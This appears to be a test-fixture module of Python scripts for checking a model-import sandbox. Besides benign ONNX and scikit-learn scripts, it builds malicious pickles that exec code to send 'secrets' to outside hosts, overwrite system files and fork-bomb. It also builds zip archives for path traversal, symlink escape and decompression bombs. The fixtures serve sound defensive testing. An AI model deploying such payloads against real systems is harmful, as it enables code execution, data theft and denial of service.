/** Python programs around models that leave the product or come from outside. */

/** Predicts rows with a model in ONNX, as somebody without the product does. */
export const ONNX = `
import json, sys
import numpy as np, onnxruntime
session = onnxruntime.InferenceSession(sys.argv[1])
missing = session.get_modelmeta().custom_metadata_map["missing_category"]
rows = json.loads(sys.argv[2])
kinds = {entry.name: entry.type for entry in session.get_inputs()}
def column(name, kind):
    values = [row[name] for row in rows]
    if kind == "tensor(string)":
        return np.array([[missing if value is None else value] for value in values], object)
    return np.array([[np.nan if value is None else value] for value in values], float)
labels, shares = session.run(["label", "probabilities"], {name: column(name, kind) for name, kind in kinds.items()})
print(json.dumps({"inputs": kinds, "labels": labels.tolist(), "probabilities": shares.tolist()}))
`;

/** Fits a pipeline as somebody does by hand, and tells its probabilities. */
export const HAND_TRAINED = `
import json, sys
import joblib, pandas as pd
import skops.io
from sklearn.compose import ColumnTransformer
from sklearn.impute import SimpleImputer
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import OneHotEncoder

table = pd.read_csv("leavers.csv")
rows = pd.DataFrame(json.loads(sys.argv[1]))
features = ["plan", "months", "spend"]
encode = ColumnTransformer([
    ("numbers", SimpleImputer(), ["months", "spend"]),
    ("plans", OneHotEncoder(handle_unknown="ignore"), ["plan"]),
])
model = make_pipeline(encode, LogisticRegression(max_iter=500)).fit(table[features], table["churned"])
joblib.dump(model, "hand.joblib")
skops.io.dump(model, "hand.skops")
found = model.predict_proba(rows[features])
print(json.dumps([{"probabilities": dict(zip(map(str, model.classes_), row.tolist()))} for row in found]))
`;

/** Writes pickles that do harm when they are loaded. */
export const HOSTILE = `
import pickle, sys
port = sys.argv[1]

class Runs:
    def __init__(self, code):
        self.code = code
    def __reduce__(self):
        return (exec, (self.code,))

network = f"""
import socket, urllib.request
for host in ("127.0.0.1", "172.17.0.1", "10.0.0.1", "example.org"):
    try:
        socket.create_connection((host, {port}), 2).send(b"secrets")
    except OSError:
        pass
"""
files = """
import os
for path in ("/workspace/../canary", "/model/x", "/data/upload", "/control/job.json", "/etc/passwd", "/canary", "/opt/venv/x"):
    try:
        open(path, "w").write("taken")
    except OSError:
        pass
for root, _, names in os.walk("/proc/1/root"):
    break
"""
bomb = """
import os
while True:
    try:
        os.fork()
    except OSError:
        raise SystemExit(9)
"""
bodies = {"network": network, "files": files, "bomb": bomb, "exit": "import os; os._exit(7)", "memory": "x = [bytearray(1 << 28) for _ in range(100)]"}
for name, body in bodies.items():
    with open(f"{name}.pkl", "wb") as file:
        pickle.dump(Runs(body), file)
`;

/** Writes archives and files that are no model folder. */
export const BAD_ZIPS = `
import stat, zipfile

def zipped(name, members):
    with zipfile.ZipFile(name, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, content in members:
            archive.writestr(info, content)

zipped("traversal.zip", [("m/MLmodel", "flavors: {}"), ("../../workspace/out/model.joblib", "x")])
zipped("absolute.zip", [("/etc/cron.d/x", "x")])
link = zipfile.ZipInfo("m/data")
link.external_attr = (stat.S_IFLNK | 0o777) << 16
zipped("link.zip", [("m/MLmodel", "flavors: {}"), (link, "/etc/passwd")])
zipped("bomb.zip", [("m/MLmodel", b"0" * (1 << 29)), ("m/x", b"0" * (1 << 29)), ("m/y", b"0" * (1 << 29))])
zipped("nothing.zip", [("readme.txt", "hello")])
open("noise.pkl", "wb").write(bytes(range(1, 200)))
`;
